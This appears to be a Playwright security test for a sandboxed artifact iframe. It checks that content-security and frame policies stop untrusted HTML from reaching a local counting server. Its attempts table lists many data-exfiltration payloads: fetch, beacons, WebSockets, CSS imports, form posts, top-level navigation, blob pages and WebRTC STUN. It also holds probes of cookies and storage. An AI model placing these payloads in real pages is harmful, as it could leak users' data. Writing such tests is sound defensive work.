import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import { readFileSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { appPolicy, frameHeaders } from '#companion/gateway/security-headers.ts'
import { frameDocument } from '#web/features/artifacts/frame-document.ts'

/** The parent's and the frame's real policies and documents, and a second server that counts what reaches it. */
const hits: string[] = []
/** Bare connections and peer packets: no request, yet they tell that somebody is here. */
const touches: string[] = []
let app: Server
let sink: Server
const stun = createSocket('udp4', () => touches.push('stun'))
let appUrl = ''
let sinkUrl = ''

const parentScript = `
  const notes = (window.notes = [])
  addEventListener('message', (event) => {
    const frame = document.querySelector('iframe')
    if (event.source !== frame.contentWindow) return
    notes.push(event.data)
    if (event.data?.silo === 'frame-ready' && window.html) {
      frame.contentWindow.postMessage({ html: window.html }, '*')
      window.html = undefined
    }
  })
  window.show = (html) => {
    window.html = html
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts'
    frame.src = '/artifact-frame.html'
    document.body.append(frame)
  }`

const listen = (server: Server) =>
  new Promise<string>((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
    ),
  )

test.beforeAll(async () => {
  sink = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end('caught')
  })
  sink.on('connection', () => touches.push('connection'))
  sink.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  app = createServer((request, response) => {
    const page = (type: string, headers: Record<string, string>, body: string) =>
      response
        .setHeaders(new Map(Object.entries(headers)))
        .setHeader('Content-Type', type)
        .setHeader('Cross-Origin-Embedder-Policy', 'require-corp')
        .setHeader('Cross-Origin-Resource-Policy', 'same-origin')
        .end(body)
    const open = /^\/open\/(\w+)/.exec(request.url ?? '')?.[1]
    if (open) response.setHeader('Content-Type', 'text/html').end(aimed(attempts[open] ?? ''))
    else if (request.url === '/artifact-frame.html')
      page('text/html', frameHeaders, readFileSync('static/artifact-frame.html', 'utf8'))
    else if (request.url === '/parent.js') page('text/javascript', appHeaders, parentScript)
    else page('text/html', appHeaders, '<!doctype html><title>app</title><script src="/parent.js"></script><body>') // prettier-ignore
  })
  appUrl = await listen(app)
  sinkUrl = await listen(sink)
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve))
})
test.afterAll(async () => {
  stun.close()
  for (const server of [app, sink]) {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
})
test.beforeEach(() => {
  hits.length = touches.length = 0
})

/** Attempts at getting out; S is the address of the server that counts. */
const appHeaders = { 'Content-Security-Policy': appPolicy([]) }

const attempts: Record<string, string> = {
  fetch: '<script>fetch("S/fetch", {mode:"no-cors"}).catch(()=>{})</script>',
  xhr: '<script>try{const x=new XMLHttpRequest();x.open("GET","S/xhr");x.send()}catch{}</script>',
  beacon: '<script>navigator.sendBeacon("S/beacon","x")</script>',
  socket: '<script>try{new WebSocket("S/ws".replace("http","ws"))}catch{}</script>',
  events: '<script>try{new EventSource("S/events")}catch{}</script>',
  image: '<img src="S/img"><script>new Image().src="S/image"</script>',
  style: '<link rel=stylesheet href="S/css"><style>@import url("S/import");body{background:url("S/bg")}@font-face{font-family:f;src:url("S/font")}</style><p style="font-family:f">x', // prettier-ignore
  script: '<script src="S/js"></script><script type=module>import("S/mjs").catch(()=>{})</script>',
  media: '<video src="S/video"></video><audio src="S/audio" autoplay></audio><object data="S/object"></object><embed src="S/embed">', // prettier-ignore
  hints: '<link rel=prefetch href="S/prefetch"><link rel=preconnect href="S/"><link rel=preload as=image href="S/preload"><link rel=icon href="S/icon">', // prettier-ignore
  frame: '<iframe src="S/frame"></iframe>',
  form: '<form action="S/form" method=post><button>x</button></form><script>document.forms[0].submit()</script>',
  refresh: '<meta http-equiv=refresh content="0;url=S/refresh">',
  location: '<script>location.href="S/location"</script>',
  link: '<a href="S/link">x</a><script>document.links[0].click()</script>',
  ping: '<a href="#x" ping="S/ping">x</a><script>document.links[0].click()</script>',
  // Clicked at once, the refusal would outrun the sign of life the test waits for.
  base: '<base href="S/"><img src="base"><a href="link">x</a><script>setTimeout(()=>document.links[0].click(),150)</script>', // prettier-ignore
  top: '<script>try{top.location="S/top"}catch{}try{parent.location.href="S/parent"}catch{}</script><a target=_top href="S/top2">x</a><script>document.links[0].click()</script>', // prettier-ignore
  popup: '<script>open("S/popup")</script><a target=_blank href="S/blank">x</a><script>document.links[0].click()</script>', // prettier-ignore
  worker:
    '<script>try{new Worker(URL.createObjectURL(new Blob(["fetch(\\"S/worker\\")"])))}catch{}</script>',
  blobPage: '<script>location=URL.createObjectURL(new Blob(["<script>fetch(\\"S/blob\\");location.href=\\"S/blob2\\"</"+"script><img src=S/blob3>"],{type:"text/html"}))</script>', // prettier-ignore
  srcdoc:
    '<iframe srcdoc="<img src=S/srcdoc><script>fetch(&quot;S/srcdoc2&quot;)</script>"></iframe>',
  rtc: '<script>try{const p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))}catch{}</script>', // prettier-ignore
}

function aimed(attempt: string): string {
  return attempt.replaceAll('STUN', `127.0.0.1:${stun.address().port}`).replaceAll('S/', `${sinkUrl}/`) // prettier-ignore
}

for (const [name, attempt] of Object.entries(attempts))
  test(`nothing leaves by ${name}`, async ({ page, context }) => {
    await page.goto(appUrl)
    const html = aimed(attempt)
    const alive = '<script>parent.postMessage("ran","*")</script>'
    await page.evaluate((text) => (window as unknown as { show(html: string): void }).show(text), frameDocument(alive + html)) // prettier-ignore
    await expect.poll(() => page.evaluate(() => (window as unknown as { notes: unknown[] }).notes)).toContain('ran') // prettier-ignore
    // Long enough for what would leave to arrive: the server is on this machine.
    await page.waitForTimeout(400)
    expect(hits).toEqual([])
    expect(context.pages()).toHaveLength(1)
    expect(page.url()).toBe(`${appUrl}/`)
  })

test('not even a connection or a peer packet leaves', async ({ page }) => {
  for (const name of ['location', 'link', 'refresh', 'frame', 'blobPage', 'rtc']) {
    await page.goto(appUrl)
    await page.evaluate((text) => (window as unknown as { show(html: string): void }).show(text), frameDocument(aimed(attempts[name]!))) // prettier-ignore
    await page.waitForTimeout(700)
    expect(touches, name).toEqual([])
  }
})

test('an artifact reaches nothing of the app, and its errors are told', async ({ page }) => {
  await page.goto(appUrl)
  const html = `<script>
    const tried = {}
    for (const [name, attempt] of Object.entries({
      document: () => parent.document.title,
      storage: () => localStorage.length,
      cookie: () => document.cookie,
    })) try { attempt(); tried[name] = 'reached' } catch { tried[name] = 'blocked' }
    parent.postMessage({ tried, origin: self.origin }, '*')
  </script><script>throw new Error('broken on purpose')</script>`
  await page.evaluate((text) => (window as unknown as { show(html: string): void }).show(text), frameDocument(html)) // prettier-ignore
  const notes = () => page.evaluate(() => (window as unknown as { notes: unknown[] }).notes)
  await expect.poll(notes).toContainEqual({
    tried: { document: 'blocked', storage: 'blocked', cookie: 'blocked' },
    origin: 'null',
  })
  await expect.poll(notes).toContainEqual({ silo: 'frame-error', message: 'Uncaught Error: broken on purpose' }) // prettier-ignore
})

test('without the policies every attempt gets out', async ({ page }) => {
  for (const name of Object.keys(attempts)) {
    hits.length = touches.length = 0
    await page.goto(`${appUrl}/open/${name}`).catch(() => undefined)
    await expect.poll(() => hits.length + touches.length, { message: name }).toBeGreaterThan(0)
  }
})
